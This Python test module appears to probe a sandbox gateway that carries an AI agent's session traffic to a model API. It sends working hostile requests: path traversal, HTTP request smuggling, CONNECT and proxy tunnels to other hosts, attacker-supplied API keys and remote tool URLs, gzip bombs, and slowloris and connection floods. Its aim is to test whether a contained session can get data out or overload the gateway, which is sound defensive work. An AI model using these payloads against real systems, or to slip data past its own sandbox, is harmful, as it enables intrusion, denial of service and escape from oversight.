"""Attacks on the session socket: what the gateway lets out, and how much of its attention one session can have. Whether
something came out is seen by the servers on the other side; here only what can be seen from inside is judged."""
import json
import os
import socket
import time

from probe import attack, main

SOCKET = "/nanoclaw/run/session.sock"
BODY = {"model": "m", "max_tokens": 10, "messages": [{"role": "user", "content": "hello"}]}


def talk(data, patience=10):
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(patience)
    client.connect(SOCKET)
    answer = b""
    try:
        client.sendall(data)
    except OSError:
        # Answered and closed before all was sent.
        pass
    try:
        while chunk := client.recv(65536):
            answer += chunk
            if len(answer) > 200_000:
                break
    except OSError:
        pass
    client.close()
    return answer


def head(method, target, headers):
    lines = [f"{method} {target} HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items())]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def ask(method, target, body=None, **headers):
    payload = b"" if body is None else body if isinstance(body, bytes) else json.dumps(body).encode()
    named = {"Host": "gateway", "Connection": "close", "Content-Type": "application/json"}
    named |= {name.replace("_", "-"): value for name, value in headers.items()}
    if body is not None:
        named.setdefault("Content-Length", str(len(payload)))
    answer = talk(head(method, target, named) + payload)
    return answer.split(b"\r\n", 1)[0].decode(errors="replace")[:60] or "the connection was closed"


def status(line):
    words = line.split(" ")
    return int(words[1]) if len(words) > 1 and words[1].isdigit() else 0


@attack("door.other-path")
def _(marker):
    return False, ask("GET", f"/model/anthropic/v1/files/{marker}")


@attack("door.encoded-path")
def _(marker):
    return False, ask("POST", f"/model/anthropic/v1/messages/%2e%2e/files/{marker}", BODY)


@attack("door.dotted-path")
def _(marker):
    return False, ask("POST", f"/model/anthropic/v1/messages/../files/{marker}", BODY)


@attack("door.other-method")
def _(marker):
    return False, ask("DELETE", f"/model/anthropic/v1/messages?{marker}")


@attack("door.query")
def _(marker):
    return False, ask("POST", f"/model/anthropic/v1/messages?to={marker}", BODY)


def with_body(marker, more):
    return False, ask("POST", "/model/anthropic/v1/messages", {**BODY, **more})


@attack("door.web-search")
def _(marker):
    return with_body(marker, {"tools": [{"type": "web_search_20250305", "name": marker}]})


@attack("door.remote-tools")
def _(marker):
    return with_body(marker, {"mcp_servers": [{"type": "url", "url": f"https://example.com/{marker}", "name": "x"}]})


@attack("door.picture-by-address")
def _(marker):
    source = {"type": "url", "url": f"https://example.com/{marker}"}
    return with_body(marker, {"messages": [{"role": "user", "content": [{"type": "image", "source": source}]}]})


@attack("door.file-by-name")
def _(marker):
    source = {"type": "file", "file_id": marker}
    return with_body(marker, {"messages": [{"role": "user", "content": [{"type": "document", "source": source}]}]})


@attack("door.own-key")
def _(marker):
    # A key of the attacker's own account would carry everything to it.
    return False, ask("POST", "/model/anthropic/v1/messages", BODY, x_api_key=marker)


@attack("door.own-header")
def _(marker):
    return False, ask("POST", "/model/anthropic/v1/messages", BODY, x_forwarded_host=marker)


@attack("door.absolute-address")
def _(port, marker):
    return False, ask("GET", f"http://127.0.0.1:{port}/{marker}")


@attack("door.tunnel")
def _(port, marker):
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(3)
    client.connect(SOCKET)
    client.sendall(head("CONNECT", f"127.0.0.1:{port}", {"Host": f"127.0.0.1:{port}"}))
    answer = client.recv(200)
    try:
        client.sendall(head("GET", f"/{marker}", {"Host": "x"}))
    except OSError:
        pass
    return False, answer.split(b"\r\n", 1)[0].decode(errors="replace")[:60]


def through(*requests):
    """Says these, one after the other, to the proxy of the network: the first line of each answer."""
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(5)
    client.connect(SOCKET)
    named = {"Host": "nanoclaw", "Connection": "Upgrade", "Upgrade": "nanoclaw-proxy"}
    answers = []
    try:
        for request in [head("GET", "/nanoclaw/proxy", named), *requests]:
            client.sendall(request)
            answers.append(client.recv(4000).split(b"\r\n", 1)[0].decode(errors="replace")[:60])
    except OSError:
        answers.append("no answer")
    client.close()
    return answers


def written(form):
    return f"[{form}]" if ":" in form else form


def judged(answers):
    """Harm where the proxy was there, and said that it is connected."""
    said = sorted({line for first, *rest in answers for line in (rest if status(first) == 101 else [first])})
    return any(status(line) == 200 for line in said), "; ".join(said)[:200]


@attack("door.host-addresses")
def _(port, marker, forms):
    def request(form):
        return head("GET", f"http://{written(form)}:{port}/{marker}", {"Host": f"{written(form)}:{port}"})

    return judged([through(request(form)) for form in forms])


@attack("door.host-tunnels")
def _(port, marker, forms):
    def request(form):
        return head("CONNECT", f"{written(form)}:{port}", {"Host": f"{written(form)}:{port}"})

    return judged([through(request(form), head("GET", f"/{marker}", {"Host": "x"})) for form in forms])


@attack("door.stranger")
def _(marker):
    return judged([through(head("GET", f"http://{marker}.invalid/{marker}", {"Host": f"{marker}.invalid"}))])


@attack("door.other-upgrade")
def _(marker):
    return False, ask("GET", f"/model/anthropic/v1/stream/{marker}", None, Connection="upgrade", Upgrade="websocket")


@attack("door.smuggled-request")
def _(marker):
    hidden = head("GET", f"/model/anthropic/v1/files/{marker}", {"Host": "gateway"})
    body = b"0\r\n\r\n" + hidden
    headers = {"Host": "gateway", "Content-Type": "application/json", "Content-Length": str(len(body)), "Transfer-Encoding": "chunked"}
    return False, talk(head("POST", "/model/anthropic/v1/messages", headers) + body, 3).split(b"\r\n", 1)[0].decode(errors="replace")[:60]


@attack("door.packed-body")
def _(marker):
    import gzip

    packed = gzip.compress(json.dumps({**BODY, "metadata": {"user_id": marker}}).encode() + b" " * 50_000_000, 9)
    return False, ask("POST", "/model/anthropic/v1/messages", packed, Content_Encoding="gzip")


@attack("door.large-body")
def _(marker):
    body = json.dumps({**BODY, "metadata": {"user_id": marker}}).encode() + b" " * 33_000_000
    return False, ask("POST", "/model/anthropic/v1/messages", body)


@attack("door.large-head")
def _(marker):
    return False, ask("POST", "/model/anthropic/v1/messages", BODY, anthropic_beta=marker + "x" * 40_000)


@attack("door.upload-out-of-folder")
def _(marker):
    lines = [
        ask("PUT", f"/nanoclaw/files/{name}", b"planted")
        for name in (f"../../{marker}", f"..%2f..%2f..%2f{marker}", f"%2e%2e/{marker}", f"%2ftmp%2f{marker}", f"{marker}%00.txt")
    ]
    return False, "; ".join(dict.fromkeys(lines))


@attack("door.upload-large")
def _():
    line = ask("PUT", "/nanoclaw/files/large.bin", b"x" * 52_000_000)
    return status(line) == 200, line


@attack("door.connections")
def _(limit):
    held = []
    answered = 0
    request = head("GET", "/nanoclaw/nothing", {"Host": "gateway"})
    for _ in range(limit * 3):
        client = socket.socket(socket.AF_UNIX)
        client.settimeout(0.05)
        try:
            client.connect(SOCKET)
            client.sendall(request)
            if client.recv(12):
                answered += 1
        except OSError:
            pass
        held.append(client)
    return answered > limit, f"{answered} of {limit * 3} connections at once were served"


@attack("door.requests")
def _(limit):
    text = json.dumps(BODY).encode()
    named = {"Host": "gateway", "Content-Type": "application/json", "Content-Length": str(len(text))}
    request = head("POST", "/model/anthropic/v1/messages", named) + text
    last = head("POST", "/model/anthropic/v1/messages", {**named, "Connection": "close"}) + text
    began = time.monotonic()
    # One after the other without waiting for an answer, so that the asking takes no time.
    clients = []
    for _ in range(16):
        client = socket.socket(socket.AF_UNIX)
        client.settimeout(10)
        client.connect(SOCKET)
        try:
            client.sendall(request * (limit // 4 - 1) + last)
        except OSError:
            # It was closed before all was sent.
            pass
        clients.append(client)
    taken = 0
    for client in clients:
        answer = b""
        try:
            while chunk := client.recv(65536):
                answer += chunk
        except OSError:
            pass
        taken += answer.count(b"HTTP/1.1 200")
    took = time.monotonic() - began
    return taken > limit + 25 * took + 5, f"{taken} of {limit * 4} requests were carried out in {took:.1f} s"


@attack("door.bell")
def _():
    client = socket.socket(socket.AF_UNIX)
    client.connect(SOCKET)
    client.sendall(head("GET", "/nanoclaw/bell", {"Host": "gateway", "Connection": "upgrade", "Upgrade": "nanoclaw-bell"}))
    client.recv(1000)
    client.settimeout(0.02)
    end = time.monotonic() + 1.5
    sent = 0
    while time.monotonic() < end:
        # Small pieces, so that they do not reach the host as one.
        try:
            sent += client.send(b"\x01" * 16)
        except TimeoutError:
            pass
    return False, f"it rang {sent} times"


def is_open(client):
    client.setblocking(False)
    try:
        return client.recv(1) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


@attack("door.slow-heads")
def _(limit):
    held = []
    for _ in range(limit * 2):
        client = socket.socket(socket.AF_UNIX)
        client.settimeout(0.2)
        try:
            client.connect(SOCKET)
            client.sendall(b"POST /model/anthropic/v1/messages HTTP/1.1\r\nHost: g\r\nX: ")
        except OSError:
            pass
        held.append(client)
    for _ in range(20):
        for client in held:
            try:
                client.sendall(b"x")
            except OSError:
                pass
        time.sleep(0.02)
    # On a busy machine those that are refused are closed a little later.
    end = time.monotonic() + 3
    while (kept := sum(is_open(client) for client in held)) > limit and time.monotonic() < end:
        time.sleep(0.05)
    return kept > limit, f"{kept} of {len(held)} connections without an end were kept"


if __name__ == "__main__":
    main()
